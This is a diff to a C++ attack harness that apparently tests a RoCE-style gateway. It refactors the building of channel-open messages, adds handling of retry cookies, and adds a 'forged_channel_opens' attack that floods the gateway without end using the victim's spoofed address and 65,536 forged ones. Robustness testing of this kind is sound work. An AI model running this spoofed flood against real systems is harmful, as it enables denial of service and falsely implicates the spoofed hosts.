@@ -102,39 +102,51 @@ wire::GatewayInfo Ask(Sender& sender, int receiver) {
   }
 }
 
-// Opens channels at the acceptor that the gateway names, and probes each that the gateway opens.
+// The opening with that number, which a gateway with these properties accepts.
+wire::ChannelControl OpeningOf(const wire::GatewayInfo& info, uint32_t number) {
+  wire::ChannelControl control;
+  control.channel = 0x100 + (number & 0xFFFF);
+  control.epoch = number;
+  control.instance = 0x5EED;
+  control.initial_psn = Psn(number & 0xFFFFFF);
+  control.window = 64;
+  control.features = info.features;
+  control.worker = static_cast<uint16_t>(number % wire::kMostGatewayWorkers);
+  control.traffic_class = static_cast<uint8_t>(number / wire::kMostGatewayWorkers * 4);
+  return control;
+}
+
+void SendControl(Sender& sender, const wire::ChannelControl& control, Qpn to) {
+  wire::Headers headers;
+  headers.bth.opcode = wire::Opcode::kChannelControl;
+  headers.bth.dest_qpn = to;
+  Bytes body(wire::kChannelControlLength);
+  wire::EncodeControl(control, body.data());
+  sender.Send(headers, body);
+}
+
+// Opens channels at the acceptor that the gateway names, with cookies where it wants them, and
+// probes each that the gateway opens.
 void ChannelOpens(int, char** arguments) {
   Sender sender(arguments[0], arguments[1]);
   const int receiver = Receiver(arguments[0]);
   const wire::GatewayInfo info = Ask(sender, receiver);
-  wire::Headers headers;
-  headers.bth.opcode = wire::Opcode::kChannelControl;
-  const auto send = [&](const wire::ChannelControl& control, Qpn to) {
-    Bytes body(wire::kChannelControlLength);
-    wire::EncodeControl(control, body.data());
-    headers.bth.dest_qpn = to;
-    sender.Send(headers, body);
-  };
   for (uint32_t number = 1;; ++number) {
-    wire::ChannelControl control;
-    control.channel = 0x100 + (number & 0xFFFF);
-    control.epoch = number;
-    control.instance = 0x5EED;
-    control.initial_psn = Psn(number & 0xFFFFFF);
-    control.window = 64;
-    control.features = info.features;
-    control.worker = static_cast<uint16_t>(number % wire::kMostGatewayWorkers);
-    control.traffic_class = static_cast<uint8_t>(number / wire::kMostGatewayWorkers * 4);
-    send(control, info.acceptors[0]);
+    SendControl(sender, OpeningOf(info, number), info.acceptors[0]);
     Bytes answer(512);
     const ssize_t length = recv(receiver, answer.data(), answer.size(), MSG_DONTWAIT);
     wire::ChannelControl opened;
     if (length < static_cast<ssize_t>(wire::kBthLength + wire::kChannelControlLength) ||
         wire::DecodeControl({answer.data() + wire::kBthLength, wire::kChannelControlLength},
-                            opened) != metrics::DropReason::kNone ||
-        opened.kind != wire::ControlKind::kOpened) {
+                            opened) != metrics::DropReason::kNone) {
       continue;
     }
+    if (opened.kind == wire::ControlKind::kRetry) {
+      wire::ChannelControl again = OpeningOf(info, opened.peer_epoch);
+      again.peer_epoch = opened.epoch;
+      SendControl(sender, again, info.acceptors[0]);
+    }
+    if (opened.kind != wire::ControlKind::kOpened) continue;
     wire::ChannelControl probe;
     probe.kind = wire::ControlKind::kProbe;
     probe.probe = 1;
@@ -142,7 +154,40 @@ void ChannelOpens(int, char** arguments) {
     probe.epoch = opened.peer_epoch;
     probe.peer_epoch = opened.epoch;
     probe.instance = 0x5EED;
-    send(probe, Qpn{opened.channel});
+    SendControl(sender, probe, Qpn{opened.channel});
+  }
+}
+
+// The address from which the host sends to another one.
+std::string OwnAddressTowards(const char* other) {
+  const int probe = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+  sockaddr_in at{};
+  at.sin_family = AF_INET;
+  at.sin_port = htons(wire::kRocePort);
+  socklen_t length = sizeof at;
+  char text[INET_ADDRSTRLEN] = "";
+  if (inet_pton(AF_INET, other, &at.sin_addr) != 1 ||
+      connect(probe, reinterpret_cast<sockaddr*>(&at), sizeof at) != 0 ||
+      getsockname(probe, reinterpret_cast<sockaddr*>(&at), &length) != 0 ||
+      inet_ntop(AF_INET, &at.sin_addr, text, sizeof text) == nullptr) {
+    std::perror("hostile: own address");
+    std::exit(1);
+  }
+  close(probe);
+  return text;
+}
+
+// Opens channels from the victim's address and from 65,536 others, whose answers it does not see.
+void ForgedChannelOpens(int, char** arguments) {
+  const std::string own = OwnAddressTowards(arguments[1]);
+  Sender honest(own.c_str(), arguments[1]);
+  const wire::GatewayInfo info = Ask(honest, Receiver(own.c_str()));
+  Sender sender(arguments[0], arguments[1]);
+  in_addr victim{};
+  inet_pton(AF_INET, arguments[0], &victim);
+  for (uint32_t number = 1;; ++number) {
+    sender.Forge(number % 2 == 0 ? ntohl(victim.s_addr) : 0x0A4E0000 + (number / 2 & 0xFFFF));
+    SendControl(sender, OpeningOf(info, number), info.acceptors[0]);
   }
 }
 
@@ -210,6 +255,7 @@ constexpr Attack kAttacks[] = {
     {"malformed_packets", Malformed},
     {"channel_guesses", ChannelGuesses},
     {"channel_opens", ChannelOpens},
+    {"forged_channel_opens", ForgedChannelOpens},
     {"discovery_flood", DiscoveryFlood},
     {"discovery_from_everywhere", DiscoveryFromEverywhere},
     {"connection_requests", ConnectionRequests},
